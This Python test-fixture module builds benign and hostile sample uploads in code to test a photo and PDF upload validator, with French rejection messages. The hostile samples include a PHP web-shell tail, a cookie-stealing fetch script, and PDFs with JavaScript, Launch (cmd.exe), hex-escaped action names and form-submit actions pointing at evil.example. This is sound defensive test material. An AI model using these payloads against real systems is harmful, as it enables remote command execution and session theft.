"""Sample uploads built in code (no binary file in git): honest phone files and hostile ones.

Each hostile case names the French message the member must see.
"""
import io
import random
import zipfile
from collections.abc import Callable
from dataclasses import dataclass

import pillow_heif
from PIL import Image
from pypdf import PdfWriter
from pypdf.actions import JavaScript

NOT_ACCEPTED = ("Ce type de fichier n'est pas accepté : envoyez une photo (JPEG, PNG, WebP, HEIC) "
                "ou un PDF.")
EMPTY = "Le fichier est vide."
TOO_LARGE = "Cette image est trop grande."
UNREADABLE = "Cette image est illisible ou incomplète."
PDF_UNREADABLE = "Ce PDF est illisible."
ENCRYPTED = "Les PDF protégés par un mot de passe ne sont pas acceptés."
ACTIVE = ("Ce PDF contient du contenu actif (script, pièce jointe…) : envoyez une capture "
          "d'écran à la place.")
TOO_LONG = "Ce PDF a trop de pages."

PHP_TAIL = b"<?php system($_GET['c']); ?>"


# ---- images -----------------------------------------------------------------------------------

def image_bytes(image: Image.Image, fmt: str, **options) -> bytes:
    output = io.BytesIO()
    image.save(output, format=fmt, **options)
    return output.getvalue()


def photo(size=(800, 600)) -> Image.Image:
    """Not a flat colour, so JPEG has something to encode."""
    return Image.linear_gradient("L").resize(size).convert("RGB")


def gps_exif(orientation: int | None = None) -> Image.Exif:
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"
    exif[0x0110] = "PhoneModel X"
    if orientation:
        exif[0x0112] = orientation
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2] = "N", (5.0, 20.0, 0.0)  # a latitude
    gps[3], gps[4] = "W", (4.0, 1.0, 0.0)  # a longitude
    return exif


def jpeg_with_gps() -> bytes:
    return image_bytes(photo(), "JPEG", exif=gps_exif(), comment=b"PhoneMaker " + PHP_TAIL,
                       xmp=b"<x:xmpmeta><exif:GPSLatitude>5,20N</exif:GPSLatitude></x:xmpmeta>")


def jpeg_rotated() -> bytes:
    """Stored landscape (600 x 300) with orientation 6: the phone was held upright."""
    return image_bytes(photo((600, 300)), "JPEG", exif=gps_exif(orientation=6))


def png_with_alpha() -> bytes:
    image = Image.new("RGBA", (300, 200), (255, 0, 0, 0))
    image.paste((0, 128, 0, 255), (50, 50, 250, 150))
    return image_bytes(image, "PNG")


def png_with_php_tail() -> bytes:
    return image_bytes(Image.new("RGB", (120, 80), "navy"), "PNG") + PHP_TAIL


def png_16_bit_grey() -> bytes:
    """A scanner's 16-bit greyscale PNG: black at the top, white at the bottom."""
    grey = Image.linear_gradient("L").resize((200, 100)).convert("I").point(lambda v: v * 257)
    return image_bytes(grey.convert("I;16"), "PNG")


def animated_png() -> bytes:
    return image_bytes(Image.new("RGB", (50, 50), "red"), "PNG", save_all=True,
                       append_images=[Image.new("RGB", (50, 50), "blue")])


def webp() -> bytes:
    return image_bytes(photo((640, 480)), "WEBP", quality=80)


def heic() -> bytes:
    output = io.BytesIO()
    pillow_heif.from_pillow(photo((640, 480))).save(output, format="HEIF", quality=80,
                                                    exif=gps_exif().tobytes())
    return output.getvalue()


def large_jpeg() -> bytes:
    return image_bytes(photo((4000, 3000)), "JPEG", quality=90)


def truncated_jpeg() -> bytes:
    data = large_jpeg()
    return data[: len(data) // 2]


def png_100_megapixels() -> bytes:
    """10 000 x 10 000 one-bit pixels compress to a few kilobytes: a decompression bomb."""
    return image_bytes(Image.new("1", (10_000, 10_000)), "PNG")


def png_45_megapixels() -> bytes:
    """Above our cap (40 MP) but below the point where Pillow raises by itself (80 MP)."""
    return image_bytes(Image.new("1", (7_500, 6_000)), "PNG")


def gif() -> bytes:
    return image_bytes(Image.new("P", (40, 40)), "GIF")


def tiff() -> bytes:
    return image_bytes(Image.new("RGB", (40, 40), "red"), "TIFF")


def polyglot_jpeg_html() -> bytes:
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"<html><script>alert(document.cookie)</script></html>"


# ---- other files ------------------------------------------------------------------------------

def html_named_png() -> bytes:
    return b"<!DOCTYPE html><html><body><script>fetch('/x?c='+document.cookie)</script></body></html>"


def svg_with_script() -> bytes:
    return (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
            b"<script>alert(1)</script></svg>")


def zip_archive() -> bytes:
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w") as archive:
        archive.writestr("recu.pdf.exe", b"MZ" + bytes(100))
    return output.getvalue()


def windows_executable() -> bytes:
    return b"MZ\x90\x00" + bytes(60) + b"This program cannot be run in DOS mode." + bytes(200)


def random_bytes() -> bytes:
    return random.Random(2026).randbytes(4096)


def text() -> bytes:
    return "Virement de 150 000 F CFA, référence DEM-2026-00042".encode()


# ---- PDFs -------------------------------------------------------------------------------------

def writer_pdf(writer: PdfWriter) -> bytes:
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()


def blank_pdf(pages: int = 1) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(595, 842)
    return writer_pdf(writer)


def reportlab_pdf() -> bytes:
    """A bank-like receipt with compressed streams and an embedded photo."""
    from reportlab.lib.utils import ImageReader
    from reportlab.pdfgen import canvas

    output = io.BytesIO()
    page = canvas.Canvas(output, pageCompression=1)
    page.drawString(72, 760, "Reçu de virement — 150 000 F CFA")
    page.drawImage(ImageReader(photo((400, 300))), 72, 400, width=200, height=150)
    page.save()
    return output.getvalue()


def raw_pdf(*objects: bytes) -> bytes:
    """A PDF written by hand (object 1 is the catalog), with a correct cross-reference table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n" % (len(objects) + 1, start)
    return bytes(out + b"%%EOF\n")


def one_page_pdf(catalog: bytes = b"", page: bytes = b"", *more: bytes) -> bytes:
    """Catalog (1), page tree (2), page (3), then `more` objects from number 4."""
    return raw_pdf(b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
                   b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                   b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] " + page + b" >>",
                   *more)


def annotation(action: bytes, subtype: bytes = b"/Link") -> bytes:
    return b"/Annots [<< /Type /Annot /Subtype " + subtype + b" /Rect [0 0 100 100] " + action + b" >>]"


def stream(content: bytes) -> bytes:
    return b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream"


def benign_pdf_with_links() -> bytes:
    """What banks really send: open at page 1, a web link, the text "/JS" inside a content stream."""
    return one_page_pdf(b"/OpenAction [3 0 R /Fit] /AcroForm << /Fields [] >>",
                        annotation(b"/A << /S /URI /URI (https://banque.example/releve) >>")
                        + b" /Contents 4 0 R",
                        stream(b"BT /F1 12 Tf 72 720 Td (/JS /JavaScript /Launch) Tj ET"))


def pdf_names_javascript() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.add_open_action(JavaScript("app.alert('hello');"))
    return writer_pdf(writer)


def pdf_open_action_javascript() -> bytes:
    return one_page_pdf(b"/OpenAction << /S /JavaScript /JS (app.launchURL('http://evil.example')) >>")


def pdf_escaped_names() -> bytes:
    """/J#61vaScript is /JavaScript once decoded: the raw scan misses it, the object walk does not."""
    return one_page_pdf(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>")


def pdf_page_additional_action() -> bytes:
    return one_page_pdf(b"", b"/AA << /O << /S /J#61vaScript /J#53 (app.alert(1)) >> >>")


def pdf_launch_annotation() -> bytes:
    return one_page_pdf(b"", annotation(b"/A << /S /Launch /F (cmd.exe) >>"))


def pdf_submit_form() -> bytes:
    return one_page_pdf(b"", annotation(b"/A << /S /SubmitForm /F (https://evil.example) >>",
                                        b"/Widget"))


def pdf_embedded_file() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.add_attachment("facture.pdf.exe", b"MZ" + bytes(100))
    return writer_pdf(writer)


def pdf_file_attachment_annotation() -> bytes:
    return one_page_pdf(b"", annotation(b"/FS << /Type /Filespec /F (recu.exe) >>",
                                        b"/FileAttachment"))


def pdf_xfa() -> bytes:
    return one_page_pdf(b"/AcroForm << /Fields [] /XFA 4 0 R >>", b"",
                        stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>"))


def pdf_outline_launch() -> bytes:
    return one_page_pdf(b"/Outlines 4 0 R", b"",
                        b"<< /Type /Outlines /First 5 0 R /Last 5 0 R /Count 1 >>",
                        b"<< /Title (Ouvrir) /Parent 4 0 R /A << /S /L#61unch /F (calc.exe) >> >>")


def encrypted_pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.encrypt("secret")
    return writer_pdf(writer)


def pdf_header_then_garbage() -> bytes:
    return b"%PDF-1.7\n" + random.Random(7).randbytes(2048)


def padded_pdf(size: int) -> bytes:
    """A valid PDF of exactly `size` bytes (a comment pads it before the end)."""
    base = blank_pdf()
    padding = size - len(base) - 2
    assert padding >= 0
    return base + b"%" + b"x" * padding + b"\n"


@dataclass(frozen=True)
class Hostile:
    name: str
    build: Callable[[], bytes]
    message: str


HOSTILE = [
    Hostile("html_named_png", html_named_png, NOT_ACCEPTED),
    Hostile("svg_with_script", svg_with_script, NOT_ACCEPTED),
    Hostile("zero_bytes", lambda: b"", EMPTY),
    Hostile("truncated_jpeg", truncated_jpeg, UNREADABLE),
    Hostile("png_100_megapixels", png_100_megapixels, TOO_LARGE),
    Hostile("png_45_megapixels", png_45_megapixels, TOO_LARGE),
    Hostile("gif", gif, NOT_ACCEPTED),
    Hostile("tiff", tiff, NOT_ACCEPTED),
    Hostile("zip", zip_archive, NOT_ACCEPTED),
    Hostile("windows_executable", windows_executable, NOT_ACCEPTED),
    Hostile("random_bytes", random_bytes, NOT_ACCEPTED),
    Hostile("plain_text", text, NOT_ACCEPTED),
    Hostile("polyglot_jpeg_magic_then_html", polyglot_jpeg_html, UNREADABLE),
    Hostile("pdf_header_then_garbage", pdf_header_then_garbage, PDF_UNREADABLE),
    Hostile("encrypted_pdf", encrypted_pdf, ENCRYPTED),
    Hostile("pdf_too_many_pages", lambda: blank_pdf(51), TOO_LONG),
    Hostile("pdf_names_javascript", pdf_names_javascript, ACTIVE),
    Hostile("pdf_open_action_javascript", pdf_open_action_javascript, ACTIVE),
    Hostile("pdf_escaped_names", pdf_escaped_names, ACTIVE),
    Hostile("pdf_page_additional_action", pdf_page_additional_action, ACTIVE),
    Hostile("pdf_launch_annotation", pdf_launch_annotation, ACTIVE),
    Hostile("pdf_submit_form", pdf_submit_form, ACTIVE),
    Hostile("pdf_embedded_file", pdf_embedded_file, ACTIVE),
    Hostile("pdf_file_attachment_annotation", pdf_file_attachment_annotation, ACTIVE),
    Hostile("pdf_xfa", pdf_xfa, ACTIVE),
    Hostile("pdf_outline_launch", pdf_outline_launch, ACTIVE),
]

ACTIVE_PDFS = [case for case in HOSTILE if case.message == ACTIVE]
